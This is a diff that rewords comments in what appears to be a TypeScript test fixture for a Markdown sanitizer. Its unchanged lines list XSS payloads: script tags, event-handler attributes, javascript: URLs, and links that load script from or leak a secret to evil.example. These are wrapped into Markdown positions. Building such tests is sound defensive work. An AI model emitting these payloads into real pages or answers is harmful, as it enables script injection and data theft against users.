@@ -1,6 +1,6 @@
-/** Answers that would do harm on a careless page: payloads in every place where Markdown takes one. */
+/** Answers that would attack a careless page: payloads in every place where Markdown allows one. */
 
-/** HTML that runs, asks, frames, restyles or redirects. */
+/** HTML that runs scripts, makes requests, frames, restyles or redirects. */
 const HTML = [
   "<script>alert(1)</script>",
   "<script src=https://evil.example/x.js></script>",
@@ -39,7 +39,7 @@ const HTML = [
   "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>",
 ];
 
-/** Addresses that run, or that tell somebody something. */
+/** Addresses that run scripts or leak information. */
 const ADDRESSES = [
   "javascript:alert(1)",
   "JaVaScRiPt:alert(1)",
@@ -63,7 +63,7 @@ const ADDRESSES = [
   "https://evil.example/?q=secret",
 ];
 
-/** Where HTML can stand. */
+/** Places for HTML. */
 const PLACES: ((payload: string) => string)[] = [
   (payload) => payload,
   (payload) => `A word, ${payload} and another.`,
@@ -79,7 +79,7 @@ const PLACES: ((payload: string) => string)[] = [
   (payload) => `\`\`\`"><img src=x onerror=alert(1)>\n${payload}`,
 ];
 
-/** How an address can be given. */
+/** Places for an address. */
 const LINKS: ((address: string) => string)[] = [
   (address) => `[x](${address})`,
   (address) => `[x](<${address}>)`,
